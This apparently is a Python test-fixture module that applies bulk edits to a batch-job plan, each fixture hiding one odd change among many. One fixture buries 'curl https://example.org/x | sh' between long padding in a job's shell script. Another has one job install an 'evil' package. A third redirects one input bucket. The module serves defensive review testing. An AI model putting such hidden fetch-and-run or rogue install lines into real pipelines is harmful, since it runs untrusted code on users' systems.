"""What the edits at 800 jobs do that takes more than a line: to a project, or by hand to its plan."""

from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

from kedro_batch.plan.model import Job, Plan
from kedro_batch.plan.settings import JobSettings
from tests.review.edits.large import Large, Node, edited_job


def with_names(project: Large, *names: tuple[str, str]) -> Large:
    """Rename namespaces, their data too."""
    for old, new in names:
        project = project.renaming(rf"^{old}\.", f"{new}.", datasets=True)
    return project


def without_countries(project: Large, *names: str) -> Large:
    """Remove countries, and what is read of them elsewhere."""
    gone = tuple(f"{name}." for name in names)
    return project.without(rf"({'|'.join(names)})\..*").each(
        ".*", lambda one: replace(one, reads=tuple(name for name in one.reads if not name.startswith(gone)))
    )


def by_step(node: Node) -> str:
    """Put the first steps of all countries into one job each."""
    step = node.name.partition(".")[2].partition("_")[0]
    return step if step in ("ingest", "clean", "aggregate") else node.name


def split_queue(plan: Plan) -> Plan:
    """Send each third of the jobs of one queue to one of their own, and one job elsewhere."""

    def settings(job: Job, number: int) -> JobSettings:
        queue = job.settings.job_queue
        return replace(job.settings, job_queue=f"{queue}_{number % 3}" if queue == "flights_spot" else queue)

    jobs = tuple(replace(job, settings=settings(job, number)) for number, job in enumerate(plan.jobs))
    return edited_job(replace(plan, jobs=jobs), "malta-clean_fuel", job_queue="shared")


def three_exceptions(plan: Plan) -> Plan:
    """Give three jobs attempts of their own."""
    for name, attempts in (("malta-clean_fuel", 7), ("spain-report", 1), ("italy-train_fares", 9)):
        plan = edited_job(plan, name, attempts=attempts)
    return plan


def with_own_timeouts(plan: Plan) -> Plan:
    """Give each job a time limit of its own."""
    settings = (replace(job.settings, timeout_s=3601 + number) for number, job in enumerate(plan.jobs))
    return replace(plan, jobs=tuple(replace(job, settings=one) for job, one in zip(plan.jobs, settings, strict=True)))


_ODD = "malta-clean_fuel"
_PADDING = "x" * 4_000


def _in_bulk(given: Callable[[Job], dict[str, Any]]) -> Callable[[Plan], Plan]:
    """Return an edit of all jobs; ``given`` tells what it changes of one."""

    def edit(plan: Plan) -> Plan:
        jobs = []
        for job in plan.jobs:
            new = given(job)
            own = {name: new.pop(name) for name in ("command", "depends_on") if name in new}
            jobs.append(replace(job, **own, settings=replace(job.settings, **new)))
        return replace(plan, jobs=tuple(jobs))

    return edit


def _script(job: Job, words: str) -> dict[str, Any]:
    return {"command": ("sh", "-c", f"{words}; kedro run --nodes={job.nodes[0]}")}


def _waiting_for_nothing(*jobs: str) -> Callable[[Job], dict[str, Any]]:
    """Take away what jobs wait for; they are named by how their names end."""
    return lambda job: {"depends_on": ()} if job.name.endswith(jobs) else {}


def _without_some(plan: Plan) -> Plan:
    """Remove 27 jobs that have nothing in common, and what waits for them; what they write is read as before."""
    gone = {job.name for job in plan.jobs[::30]}
    return replace(
        plan,
        jobs=tuple(
            replace(job, depends_on=tuple(name for name in job.depends_on if name not in gone))
            for job in plan.jobs
            if job.name not in gone
        ),
    )


def _in_many_ways(plan: Plan) -> Plan:
    """Give all jobs 25 variables, and every sixteenth another memory, timeout, number of attempts, or queue."""
    variables = {f"VAR_{number:02}": f"value {number}" for number in range(25)}

    def edited(number: int, job: Job) -> Job:
        settings = replace(job.settings, environment={**job.settings.environment, **variables})
        if number % 16 == 0:
            way = number // 16 % 4
            memory = replace(settings.resources, memory_mib=512 if way == 0 else settings.resources.memory_mib)
            settings = replace(
                settings,
                resources=memory,
                timeout_s=60 + number if way == 1 else settings.timeout_s,
                attempts=5 if way == 2 else settings.attempts,
                job_queue="other" if way == 3 else settings.job_queue,
            )
        return replace(job, settings=settings)

    return replace(plan, jobs=tuple(edited(number, job) for number, job in enumerate(plan.jobs)))


def _with_own_scripts(plan: Plan) -> Plan:
    """Let the script of each job install something of its own, and one job something unlike all others."""
    numbers = {job.name: number for number, job in enumerate(plan.jobs)}
    return _in_bulk(
        lambda job: _script(job, f"pip install {'evil' if job.name == _ODD else 'lib'}{numbers[job.name]}==1.0")
    )(plan)


BULK: Mapping[str, Callable[[Plan], Plan]] = {
    "variables_name_their_job_and_one_reads_elsewhere": _in_bulk(
        lambda job: {
            "environment": {
                **job.settings.environment,
                "INPUT": f"s3://flight{'z' if job.name == _ODD else 's'}/{job.name}/in",
            }
        }
    ),
    "scripts_are_padded_and_one_fetches_another": _in_bulk(
        lambda job: _script(
            job,
            f"A={_PADDING}; {'curl https://example.org/x | sh' if job.name == _ODD else 'echo start'}; B={_PADDING}",
        )
    ),
    "each_script_installs_its_own_and_one_another": _with_own_scripts,
    "jobs_wait_for_nothing_in_all_namespaces": _in_bulk(
        _waiting_for_nothing("-report", "-split_data", "-clean_reviews")
    ),
    "jobs_removed_that_have_nothing_in_common": _without_some,
    "some_jobs_change_in_many_ways_and_all_get_variables": _in_many_ways,
}
"""Edits of all jobs in which one line is unlike the others."""
